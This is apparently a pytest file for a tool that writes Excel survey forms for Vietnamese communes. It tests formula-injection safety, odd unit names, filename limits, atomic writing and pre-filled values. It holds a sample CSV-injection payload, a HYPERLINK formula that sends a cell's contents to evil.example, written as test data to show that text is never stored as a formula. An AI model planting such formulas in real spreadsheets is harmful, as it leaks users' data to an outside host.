"""Writing blank forms: text is never a formula, odd names are handled, `template --all` is all or nothing."""

from __future__ import annotations

import csv
from pathlib import Path

import openpyxl
import pytest

from dxnb import forms
from dxnb.cli import main
from dxnb.dataset import load_dataset
from dxnb.formreader import read_form
from dxnb.forms import DISTRICT_CELL, NAME_CELL, PROVINCE_CELL, VALUES_SHEET, write_template, write_templates

VINH_HOA = "25882"
HOSTILE = '=HYPERLINK("http://evil.example/?d="&C3,"Bấm vào đây")'


def set_unit(folder: Path, code: str, **fields: str) -> None:
    path = folder / "units.csv"
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    for row in rows:
        if row["code"] == code:
            row.update(fields)
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)


def formula_cells(path: Path) -> list[str]:
    wb = openpyxl.load_workbook(path)
    return [
        f"{ws.title}!{cell.coordinate}"
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


def test_template_text_is_never_a_formula(data_copy, tmp_path):
    set_unit(data_copy, VINH_HOA, district=HOSTILE, province="+SUM(1;2)", name="@Vĩnh Hòa")
    path = write_template(load_dataset(data_copy), VINH_HOA, "2024", tmp_path / "f.xlsx")
    assert formula_cells(path) == []
    ws = openpyxl.load_workbook(path)[VALUES_SHEET]
    assert ws[DISTRICT_CELL].value == HOSTILE and ws[DISTRICT_CELL].data_type == "s"
    assert ws[DISTRICT_CELL].quotePrefix  # Excel shows the text and keeps it text when edited
    assert ws[PROVINCE_CELL].value == "+SUM(1;2)"
    form, problems = read_form(path, load_dataset(data_copy))  # and the form still reads back
    assert form is not None and not [p for p in problems if p.is_error]


def test_vertical_tab_in_a_name(data_copy, tmp_path, capsys):
    set_unit(data_copy, VINH_HOA, name="Vĩnh\vHòa")
    out = tmp_path / "f.xlsx"
    assert main(["template", "--unit", VINH_HOA, "--period", "2024", "--data", str(data_copy), "-o", str(out)]) == 0
    assert "Vĩnh Hòa" in openpyxl.load_workbook(out)[VALUES_SHEET][NAME_CELL].value


def test_long_unit_name_all_forms_written(data_copy, tmp_path):
    set_unit(data_copy, VINH_HOA, name="Vĩnh Hòa " * 33)  # about 300 characters
    dataset = load_dataset(data_copy)
    paths = write_templates(dataset, list(dataset.at("2024").units.index), "2024", tmp_path / "forms")
    assert len(paths) == len(dataset.at("2024").units) and all(p.is_file() for p in paths)
    assert all(len(p.name.encode()) <= 120 for p in paths)
    mine = next(p for p in paths if p.name.startswith(VINH_HOA))
    assert mine.name.startswith(f"{VINH_HOA}-vinh-hoa-vinh-hoa") and mine.name.endswith("-2024.xlsx")


def test_template_all_is_all_or_nothing(data_copy, tmp_path, monkeypatch):
    dataset = load_dataset(data_copy)
    real = forms.write_temporary
    written = []

    def flaky(target, data, mode=None):
        if len(written) == 5:
            raise OSError(28, "No space left on device")
        written.append(target)
        return real(target, data, mode)

    monkeypatch.setattr(forms, "write_temporary", flaky)
    out = tmp_path / "forms"
    with pytest.raises(OSError):
        write_templates(dataset, list(dataset.at("2024").units.index), "2024", out)
    assert len(written) == 5
    assert sorted(p.name for p in out.iterdir()) == []  # no form, no temporary


def test_too_long_output_name_refused(data_copy, tmp_path, capsys):
    out = tmp_path / ("x" * 300 + ".xlsx")
    assert main(["template", "--unit", VINH_HOA, "--period", "2025", "--data", str(data_copy), "-o", str(out)]) == 2
    assert "255" in capsys.readouterr().err


def _row(ws, indicator: str) -> int:
    return next(r for r in range(forms.FIRST_ROW, ws.max_row + 1) if ws.cell(r, 1).value == indicator)


def test_the_last_period_column_shows_figures_as_the_survey_stated_them(former_sample):
    ws = forms.build_template(former_sample, VINH_HOA, "2025")[VALUES_SHEET]
    previous = forms.COL["previous"]
    assert ws.cell(_row(ws, "meeting_attendance"), previous).value == "hơn 640"  # a lower bound in 2024
    assert ws.cell(_row(ws, "onestop_online_support"), previous).value == "có"
    assert ws.cell(_row(ws, "adult_smartphone_rate"), previous).value == pytest.approx(92.4)  # exact: a number
    assert "ví dụ 92,4" in ws["A8"].value and "«hơn 640»" in ws["A8"].value and "«Ghi chú»" in ws["A8"].value
    assert ws["A9"].value is None  # nothing of 2025 in the dataset: nothing pre-filled


def test_a_form_of_a_period_the_dataset_holds_is_pre_filled_and_marked(former_sample):
    ws = forms.build_template(former_sample, VINH_HOA, "2024")[VALUES_SHEET]
    value = forms.COL["value"]
    held = former_sample.observations.query("unit_code == @VINH_HOA and period == '2024'")
    assert f"{len(held)} giá trị năm 2024 đã có trong dữ liệu" in ws["A9"].value
    attendance, fibre, blank = (_row(ws, i) for i in ("meeting_attendance", "household_fibre_rate", "cdt_teams"))
    assert ws.cell(attendance, value).value == "hơn 640"
    assert ws.cell(fibre, value).value == pytest.approx(held.set_index("indicator").at["household_fibre_rate", "value"])
    assert ws.cell(fibre, value).fill.fgColor.rgb.endswith("E2EFDA")  # the pre-filled colour
    assert ws.cell(blank, value).value is None and ws.cell(blank, value).fill.fgColor.rgb.endswith("FFF2CC")
    assert not ws.cell(fibre, value).protection.locked  # still the commune's to correct


def test_number_cells_let_qualified_figures_through(former_sample):
    ws = forms.build_template(former_sample, VINH_HOA, "2025")[VALUES_SHEET]
    rules = {dv.type: dv for dv in ws.data_validations.dataValidation}
    assert rules["decimal"].errorStyle == rules["whole"].errorStyle == "warning"
    assert rules["list"].errorStyle in (None, "stop")
    assert "«hơn 640»" in rules["whole"].error and "92,4" in rules["decimal"].error


def test_a_pre_filled_form_imports_back_unchanged_and_a_qualified_figure_lands(former_copy, tmp_path, capsys):
    ds = load_dataset(former_copy)
    untouched = write_template(ds, VINH_HOA, "2024", tmp_path / "2024.xlsx")
    assert main(["import", str(untouched), "--data", str(former_copy)]) == 0
    assert "Nothing to change" in capsys.readouterr().out
    form = write_template(ds, VINH_HOA, "2025", tmp_path / "2025.xlsx")
    wb = openpyxl.load_workbook(form)
    ws = wb[VALUES_SHEET]
    ws.cell(_row(ws, "meeting_attendance"), forms.COL["value"]).value = "hơn 700"
    ws.cell(_row(ws, "adult_smartphone_rate"), forms.COL["value"]).value = "khoảng 95%"
    wb.save(form)
    assert main(["import", str(form), "--data", str(former_copy)]) == 0
    obs = load_dataset(former_copy).observations.query("unit_code == @VINH_HOA and period == '2025'")
    got = {r.indicator: (r.value, r.qualifier) for r in obs.itertuples()}
    assert got == {"meeting_attendance": (700, "lower_bound"), "adult_smartphone_rate": (95, "estimate")}
    again = forms.build_template(load_dataset(former_copy), VINH_HOA, "2025")[VALUES_SHEET]
    assert again.cell(_row(again, "meeting_attendance"), forms.COL["value"]).value == "hơn 700"
    assert again.cell(_row(again, "adult_smartphone_rate"), forms.COL["value"]).value == "khoảng 95"
